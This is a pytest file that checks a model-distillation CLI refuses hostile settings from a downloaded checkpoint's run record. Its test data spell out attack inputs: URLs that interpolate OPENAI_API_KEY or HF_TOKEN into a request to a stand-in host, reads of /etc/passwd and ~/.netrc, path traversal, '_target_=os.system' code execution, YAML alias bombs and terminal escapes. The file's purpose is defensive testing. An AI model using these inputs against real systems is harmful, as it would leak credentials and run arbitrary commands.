"""Commands on a checkpoint take settings of its run, but no request and no file of a downloaded one."""

from __future__ import annotations

import json
import re
import shlex
import socket

import pytest
import yaml
from omegaconf import OmegaConf
from workbench import CONF, foredraft, make_target, write_prompts

from decode.errors import UserError
from distill.cli.checkpoint_defaults import with_run_settings
from distill.cli.main import rewrite
from distill.config import own_runs, recorded
from distill.config.choices import options
from distill.config.compose import compose
from distill.utils.redact import HIDDEN
from distill.utils.run_record import read_options

KEY = "sk-a-secret-of-the-environment"
CURRENT = OmegaConf.create({"a": 1})  # configuration of a command


@pytest.fixture
def host(monkeypatch):
    """Address of a server, which nobody may connect to."""
    monkeypatch.setenv("OPENAI_API_KEY", KEY)
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.setblocking(False)
        yield f"127.0.0.1:{server.getsockname()[1]}"
        with pytest.raises(BlockingIOError):
            server.accept()


@pytest.fixture
def run(tmp_path, monkeypatch):
    """A run's folder as one downloads it: `run(*lines)` writes its record and is the checkpoint."""
    folder = tmp_path / "downloaded"
    checkpoint = folder / "checkpoints" / "best"
    for made in (folder / ".hydra", checkpoint, tmp_path / "elsewhere"):
        made.mkdir(parents=True)
    monkeypatch.chdir(tmp_path / "elsewhere")

    def write(*lines, **target):
        origin = {"name": "data/pocket", "revision": None, "fingerprint": "x", "tokenizer": ""} | target
        config = {"format": 1, "drafter": "eagle", "settings": {}, "target": origin}
        (checkpoint / "config.json").write_text(json.dumps(config))
        (folder / ".hydra" / "overrides.yaml").write_text(yaml.safe_dump(list(lines)))
        return checkpoint

    return write


def refused(argv, said):
    with pytest.raises(UserError, match=said) as error:
        with_run_settings(argv, CONF, "score_checkpoint")
    return str(error.value)


# `HOST` is the server's address.
LEAKS = [
    "prompts.files=['http://HOST/${ oc.env:OPENAI_API_KEY}.jsonl']",
    "prompts.files=[[http://HOST/${oc.env:OPENAI_API_KEY}]]",
    "prompts.files='http://HOST/${oc.decode:${oc.env:OPENAI_API_KEY}}'",
    'prompts.files="http://HOST/\\${oc.env:OPENAI_API_KEY}"',
    "prompts.files=['http://HOST/x.jsonl']",
    "prompts.dataset='me/${ oc.env:OPENAI_API_KEY}'",
    "prompts.dataset=me/data",
    "prompts.name='${${prompts.split}.env:OPENAI_API_KEY}'",
    "prompts.columns={prompt: '${ oc.env:OPENAI_API_KEY}'}",
    "prompts.template_options={a: [{b: '${oc.env:OPENAI_API_KEY}'}]}",
    "prompts.template_options.a=${oc.env:OPENAI_API_KEY}",
    "prompts.sources=[{dataset: json, files: 'http://HOST/x.jsonl'}]",
    "prompts.sources=[{path: 'a.jsonl', name: '${ oc.env:OPENAI_API_KEY}'}]",
    "prompts.sources=[[{path: /etc/passwd}]]",
    "prompts.path='http://HOST/x.jsonl'",
    "prompts.path=/etc/passwd",
    "prompts.path=~/.netrc",
    "prompts.path=../private.jsonl",
    "prompts.path=a/../../private.jsonl",
    "prompts.path=link.jsonl",
    "prompts.heldout='${oc.env:HOME}/x.jsonl'",
    "prompts.path=a.jsonl,/etc/passwd",
    "prompts.path=choice(a.jsonl,b.jsonl)",
    "prompts.path=glob(*)",
    "prompts=../../etc/x",
    "prompts='${oc.env:OPENAI_API_KEY}'",
    "++prompts.files=['http://HOST/x.jsonl']",
    "+prompts.dataset=me/data",
    "~prompts.path",
    "prompts@target=jsonl",
    "prompts._target_=os.system",
    "prompts.sources=[{_target_: os.system}]",
    "prompts.path={_target_: os.system}",
    "prompts.template='x\x1b[2J'",
    "prompts.path='x",
]


@pytest.mark.parametrize("line", LEAKS)
def test_requests_and_files_of_a_record_are_asked_for(run, host, line, tmp_path):
    (tmp_path / "private.jsonl").write_text("")
    (tmp_path / "elsewhere" / "link.jsonl").symlink_to(tmp_path / "private.jsonl")
    checkpoint = run("drafter=eagle", line.replace("HOST", host))
    done = foredraft("score", f"checkpoint={checkpoint}")
    done.refused(str(tmp_path / "downloaded" / ".hydra" / "overrides.yaml"))
    assert re.search("give [\"']?prompts", done.err)
    assert KEY not in done.out + done.err
    assert done.err.rstrip("\n").isprintable()


def test_generate_takes_only_the_template_of_a_record(run, host):
    line = f"prompts.files=['http://{host}/${{ oc.env:OPENAI_API_KEY}}.jsonl']"
    checkpoint = run(line, "prompts.template=none", "prompts.path=/etc/passwd")
    assert found(checkpoint, "generate") == ["prompts.template=none"]


def test_question_holds_options_that_answer_it(run, tmp_path):
    """Given as they are printed, they are taken: all of the run's settings, no fewer."""
    file = write_prompts(tmp_path / "my prompts.jsonl", 3)
    settings = ["prompts=jsonl", f"prompts.path='{file}'", "prompts.columns={prompt: question}"]
    argv = [f"checkpoint={run(*settings, 'prompts.limit=7')}"]
    given = shlex.split(refused(argv, "a file outside of the run's folder").partition("give ")[2])
    taken = rewrite(with_run_settings([*given, *argv], CONF, "score_checkpoint"), CONF)
    expected = compose([*settings, "prompts.limit=7", "checkpoint=x"], CONF, "score_checkpoint").prompts
    assert compose(taken, CONF, "score_checkpoint").prompts == expected


def test_request_that_was_given_here_before_is_taken(run, tmp_path, monkeypatch):
    """As often as it is asked for, of any copy of the record, but not with another override."""
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    given = ["drafter=eagle", "prompts=jsonl", f"prompts.path='{tmp_path}/p.jsonl'", "prompts.dataset='a/b'"]
    checkpoint = run(*given)
    argv = [f"checkpoint={checkpoint}"]
    own_runs.remember(given)
    own_runs.remember(given)
    assert found(checkpoint) == given[1:]
    (noted,) = (tmp_path / "state").rglob("runs")
    assert (len(noted.read_text().splitlines()), noted.stat().st_mode & 0o777) == (1, 0o600)
    run(*given, "prompts.limit=1")
    refused(argv, "not taken from a record")
    own_runs.remember(secret := [*given, "prompts.name='${oc.env:OPENAI_API_KEY}'"])
    run(*secret)
    refused(argv, r"prompts\.name=.* is not taken from a record")
    run(*given)
    noted.chmod(0o666)
    refused(argv, "not taken from a record")


def test_state_folder_that_cannot_be_written_stops_no_run(tmp_path, monkeypatch):
    (tmp_path / "file").write_text("")
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "file"))
    own_runs.remember(["a=1"])
    assert not own_runs.are_own(["a=1"])


def test_question_leaves_out_what_reads_the_environment(run):
    argv = [f"checkpoint={run('prompts=jsonl', 'prompts.path=${oc.env:DATA}/x.jsonl')}"]
    refused(argv, r"give prompts=jsonl prompts\.path=\.\.\.$")


@pytest.mark.parametrize(
    "record", ["- [a, b]", "{a: b}", "- prompts.path: x", "[", "\x00", "- 'x", "- a\n- 1"]
)
def test_damaged_record_is_one_line(run, record, tmp_path):
    checkpoint = run()
    (tmp_path / "downloaded" / ".hydra" / "overrides.yaml").write_text(record)
    refused([f"checkpoint={checkpoint}"], "no record of a run's options")


@pytest.mark.parametrize(
    "experiment", ["../../../evil/x", "/tmp/x", "${oc.env:HOME}", "nothing", "a,b", "[a]"]
)
def test_experiment_is_one_of_ours(run, experiment, tmp_path):
    (tmp_path / "evil").mkdir()
    (tmp_path / "evil" / "x.yaml").write_text("prompts: {files: ['http://127.0.0.1:9/x']}")
    assert found(run(f"experiment={experiment}")) == []


def test_files_of_the_run_and_relative_paths_are_taken(run, tmp_path):
    inside = write_prompts(tmp_path / "downloaded" / "p.jsonl", 3)
    settings = [f"prompts.path='{inside}'", "prompts.heldout='data/prompts/heldout.jsonl'", "prompts.limit=2"]
    settings += ["prompts.sources=[{path: 'a.jsonl'}]", "prompts.template_options={a: true, b: 'é\\''}"]
    taken = found(run(*settings))
    prompts = [compose([*o, "checkpoint=x"], CONF, "score_checkpoint").prompts for o in (taken, settings)]
    assert prompts[0] == prompts[1]


@pytest.mark.parametrize(
    "said", [[], {"held_out": 1}, {"held_out": 1, "tokens": "${oc.env:HOME}"}, {"held_out": 1, "tokens": -1}]
)
def test_limit_of_a_record_is_a_number(run, said, tmp_path):
    checkpoint = run()
    (tmp_path / "downloaded" / "prompts.json").write_text(json.dumps({"too_long": said}))
    if not said:
        assert found(checkpoint) == []
        return
    refused([f"checkpoint={checkpoint}"], r"give prompts\.max_tokens")


def test_stores_target_is_a_name_too(tmp_path, host):
    make_target(tmp_path / "target")
    for name, revision in (("me/${ oc.env:OPENAI_API_KEY}", None), ("me/x", ["a"]), ("a\n", None)):
        origin = {"target": name, "revision": revision}
        (tmp_path / "manifest.json").write_text(json.dumps({"origin": origin}))
        with pytest.raises(UserError, match="no name of a target"):
            with_run_settings([f"store={tmp_path}"], CONF, "inspect_data")


def test_downloaded_configuration_shows_no_environment(tmp_path, monkeypatch):
    """However an interpolation is spelled; aliases, by which a few lines become gigabytes, are refused."""
    monkeypatch.setenv("OPENAI_API_KEY", KEY)
    (tmp_path / ".hydra").mkdir()
    file = tmp_path / ".hydra" / "config.yaml"
    (tmp_path / ".hydra" / "overrides.yaml").write_text("- a=1\n")
    texts = {
        "plain": "${oc.env:OPENAI_API_KEY}",
        "spaced": "${ oc.env:OPENAI_API_KEY}",
        "resolver": "${${b}:OPENAI_API_KEY}",
        "part": "${oc.${d}:OPENAI_API_KEY}",
        "link": "${plain}",
    }
    values = texts | {"b": "oc.env", "d": "env", "size": 1}
    file.write_text(json.dumps(values))
    shown = recorded.shown_settings(tmp_path)
    assert KEY not in str(shown)
    assert shown["size"] == 1
    (tmp_path / "run.json").write_text(json.dumps({"options": values, "chosen": {"size": "${plain}"}}))
    options = read_options(tmp_path).as_text()
    assert KEY not in options
    assert "size: 1  # chosen by ${plain}" in options, "shown, and not followed"
    assert all(f"{name}: {HIDDEN}" in options for name in ("plain", "spaced", "resolver", "part"))
    file.write_text("a: &a [x, x]\nb: &b [*a, *a]\nc: [*b, *b]\n")
    assert recorded.settings(tmp_path, CURRENT) is None
    assert recorded.shown_settings(tmp_path) is None
    for text in ("a: &a 1\nb: *a", "a: [", "[" * 5000):
        file.write_text(text)
        assert recorded.shown_settings(tmp_path) is None


def test_configuration_of_a_folder_is_not_interpolated(tmp_path, monkeypatch):
    """A few lines of doubling texts would be more than a machine holds."""
    monkeypatch.setenv("OPENAI_API_KEY", KEY)
    (tmp_path / ".hydra").mkdir()
    texts = {"a0": "x" * 10} | {f"a{i}": f"${{a{i - 1}}}${{a{i - 1}}}" for i in range(1, 60)}
    texts |= {"key": "${oc.env:OPENAI_API_KEY}", "again": "${again}"}
    (tmp_path / ".hydra" / "config.yaml").write_text(json.dumps(texts))
    assert recorded.shown_settings(tmp_path) == texts | {"key": HIDDEN}
    assert recorded.settings(tmp_path, CURRENT) == texts
    assert recorded.settings(tmp_path, OmegaConf.create({"key": "another", "a0": "y"})) == texts


def test_recorded_interpolations_of_this_command_have_its_values(tmp_path):
    cfg = compose(["seed=3", "prompts.template_options={a: '\\${b}'}", "drafter=eagle"], CONF)
    (tmp_path / ".hydra").mkdir()
    OmegaConf.save(cfg, tmp_path / ".hydra" / "config.yaml")
    assert recorded.settings(tmp_path, cfg) == OmegaConf.to_container(cfg, resolve=True)
    assert recorded.settings(tmp_path, cfg)["rollout"]["seed"] == 3
    assert recorded.settings(tmp_path, CURRENT)["rollout"]["seed"] == "${seed}"


PROMPTS = ["prompts=jsonl", "prompts.path='a b.jsonl'"]
TRAINED = ["drafter=eagle", "target=hf", *PROMPTS]


@pytest.fixture
def best(run):
    """A checkpoint in a run's folder."""
    return run(*TRAINED, name="/a/target")


def found(folder, name="score_checkpoint", *given):
    """Overrides that a command on this checkpoint takes from its run."""
    argv = [f"checkpoint={folder}", *given]
    overrides = with_run_settings(argv, CONF, name)
    assert overrides[-len(argv) :] == argv
    return overrides[: -len(argv)]


@pytest.mark.parametrize(
    ("name", "given", "expected"),
    [
        ("score_checkpoint", [], ["target=/a/target", *PROMPTS]),
        ("lab/context", [], ["target=/a/target", *PROMPTS]),
        ("generate", [], ["target=/a/target"]),
        ("score_checkpoint", ["target=/mine"], PROMPTS),
        ("score_checkpoint", ["target.path=/mine", "prompts.path=/mine"], []),
        ("score_checkpoint", ["target.dtype=float32", "prompts.seed=1"], ["target=/a/target", *PROMPTS]),
        ("verify_served", [], PROMPTS),
        ("score_checkpoint", ["--cfg", "job"], []),
        ("export", [], []),
        ("config", [], []),
    ],
)
def test_unnamed_target_and_prompts_are_as_in_training(best, capsys, name, given, expected):
    assert found(best, name, *given) == expected
    assert ("as in training: " in capsys.readouterr().out) == bool(expected)


@pytest.mark.parametrize(
    ("recorded", "given", "expected"),
    [
        (["decode=chain", "decode.depth=7"], [], ["decode=chain", "decode.depth=7"]),
        (["decode.depth=7", "decode=chain"], ["decode.depth=2"], ["decode=chain", "decode.depth=7"]),
        (["decode=chain", "decode/rule=block"], ["decode=dynamic"], []),
        (["decode=chain", "decode/rule=block"], [], ["decode=chain", "decode/rule=block"]),
        (["experiment=llama_cpp"], [], ["decode=chain"]),
        (["experiment=llama_cpp", "decode=static"], [], ["decode=static"]),
        (["drafter=eagle"], [], []),
    ],
)
def test_score_decodes_by_the_plan_of_the_run(run, recorded, given, expected):
    taken = found(run(*recorded), "score_checkpoint", *given)
    assert [word for word in taken if word.startswith("decode")] == expected
    compose(rewrite([*taken, *given, "checkpoint=x"], CONF), CONF, "score_checkpoint")
    assert not [word for word in found(run(*recorded), "generate") if word.startswith("decode")]


@pytest.mark.parametrize("experiment", options(CONF, "experiment"))
def test_score_decodes_by_the_plan_of_every_experiment(run, experiment):
    taken = found(run(f"experiment={experiment}"), "score_checkpoint")
    scored = compose(rewrite([*taken, "checkpoint=x"], CONF), CONF, "score_checkpoint")
    assert scored.decode == compose([f"experiment={experiment}"], CONF).decode


@pytest.mark.parametrize(
    "line",
    [
        "decode._target_=os.system",
        "decode.rule={_target_: os.system}",
        "decode.rule=[{a: {_target_: os.system}}]",
        "decode={_target_: os.system}",
        "decode.depth='${oc.env:OPENAI_API_KEY}'",
        "+decode.x=1",
        "~decode.depth",
        "decode@score=chain",
        "decode=../../etc/x",
    ],
)
def test_plan_of_a_record_is_plain(run, line):
    refused([f"checkpoint={run(line)}"], "is no setting of a plan; give decode=")


def test_score_says_which_plan_where_no_run_is_recorded(run, capsys):
    checkpoint = run("decode=chain")
    (checkpoint.parent.parent / ".hydra" / "overrides.yaml").unlink()
    assert not [word for word in found(checkpoint) if word.startswith("decode")]
    assert "plan: decode=dynamic, the default" in capsys.readouterr().out


def test_prompts_of_an_experiment_are_taken(run):
    def prompts(*overrides):
        return compose(rewrite([*overrides, "checkpoint=x"], CONF), CONF, "score_checkpoint").prompts

    best = run("experiment=smollm2", "target=smollm2_gguf", "prompts.heldout_share=0.2")
    trained = compose(["experiment=smollm2", "prompts.heldout_share=0.2"], CONF).prompts
    assert prompts(*found(best)) == trained
    assert len(trained.sources) == 2
    best = run("experiment=smollm2", *PROMPTS, "prompts.sources=null")
    assert prompts(*found(best)).path == "a b.jsonl"
    assert found(best, "generate") == []
    # `prompts.path: null` of this one cannot be given on a command line, and need not be.
    assert found(run("experiment=quick"), "limit") == ["prompts.self=128"]


def test_store_is_read_by_the_target_that_wrote_it(tmp_path):
    (tmp_path / "x").mkdir()
    origin = {"target": "/a/target", "revision": "abc"}
    (tmp_path / "x" / "manifest.json").write_text(json.dumps({"origin": origin}))
    target = ["target=/a/target", "target.revision='abc'"]
    for argv in ([f"store={tmp_path / 'x'}"], [f"stores={tmp_path}", "sample=0"]):
        assert with_run_settings(argv, CONF, "inspect_data") == [*target, *argv]
    for argv in ([f"store={tmp_path / 'x'}", "target=/mine"], [f"store={tmp_path}"]):
        assert with_run_settings(argv, CONF, "inspect_data") == argv


def test_checkpoint_outside_its_run_still_knows_its_target(best, tmp_path):
    moved = best.rename(tmp_path / "moved")
    assert found(moved, "limit") == ["target=/a/target"]
    for other in ("nowhere", "a/b/score.json", ""):
        assert found(other, "verify_served") == []


@pytest.mark.parametrize(
    "target",
    [
        {"name": "me/${oc.env:HF_TOKEN}"},
        {"name": "'me/${oc.env:HF_TOKEN}'"},
        {"name": "me/x\x1b[2J"},
        {"name": "me/x\nseed=1"},
        {"name": "http://127.0.0.1:9/x"},
        {"name": "~/model"},
        {"revision": "${oc.env:HF_TOKEN}"},
        {"revision": "{a: b}"},
    ],
)
def test_malformed_target_name_is_refused(run, capsys, target):
    """Hydra would resolve it and send it to a hub, or a terminal would read its escapes."""
    with pytest.raises(UserError, match="no name of a target") as error:
        found(run(**{"name": "/a/target"} | target), "generate")
    assert str(error.value).isprintable()
    assert capsys.readouterr().out == ""


def test_revision_is_text(run):
    overrides = rewrite(found(run(name="owner/name", revision="1234567"), "generate"), CONF)
    target = compose([*overrides, "checkpoint=x", "prompt=x"], CONF, "generate").target
    assert (target.path, target.revision) == ("owner/name", "1234567")


def test_held_out_prompts_that_were_too_long_stay_out(best):
    for held_out, more in ((0, []), (2, ["prompts.max_tokens=511"])):
        too_long = {"tokens": 511, "train": 9, "held_out": held_out}
        (best.parents[1] / "prompts.json").write_text(json.dumps({"too_long": too_long}))
        assert found(best) == ["target=/a/target", *PROMPTS, *more]


@pytest.mark.parametrize(("template", "more"), [("none", ["prompts.template=none"]), ("chat", []), (3, [])])
def test_published_drafter_of_a_base_model_needs_no_template(best, tmp_path, template, more):
    published = best.rename(tmp_path / "published")
    (published / "recipe.json").write_text(json.dumps({"template": template}))
    for name in ("generate", "score_checkpoint", "advise"):
        assert found(published, name) == ["target=/a/target", *more]
    assert found(published, "generate", "prompts.template=chat") == ["target=/a/target"]
